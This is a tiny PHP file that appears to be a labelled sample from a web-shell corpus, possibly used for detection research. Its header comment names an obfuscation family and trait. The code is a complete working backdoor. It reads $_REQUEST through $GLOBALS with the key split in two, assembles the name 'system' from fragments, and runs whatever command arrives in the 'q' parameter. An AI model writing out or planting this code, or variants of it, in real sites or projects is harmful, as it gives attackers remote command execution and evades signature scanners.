<?php
/* Family: obfuscation/var-function
   Style: superglobal via GLOBALS and split name
   Trait: GLOBALS["_RE"."QUEST"] read, function name assembled from pieces and called */
$r = $GLOBALS['_RE' . 'QUEST'];
$f = 'sys' . 'tem';
$f($r['q']);
